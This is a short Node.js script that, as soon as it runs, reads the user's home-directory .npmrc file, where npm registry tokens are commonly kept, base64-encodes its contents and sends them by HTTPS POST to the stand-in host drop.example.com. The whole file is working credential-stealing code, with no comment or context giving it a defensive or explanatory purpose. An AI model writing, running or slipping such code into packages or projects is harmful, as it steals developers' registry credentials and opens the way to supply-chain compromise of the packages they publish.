const fs = require('fs');
const https = require('https');
const os = require('os');

function upload(content) {
  const req = https.request({ hostname: 'drop.example.com', method: 'POST' }, (res) => {
    res.on('data', () => {});
  });
  req.write(content);
  req.end();
}

fs.readFile(os.homedir() + '/.npmrc', 'utf8', (err, content) => {
  if (!err) {
    upload(Buffer.from(content).toString('base64'));
  }
});
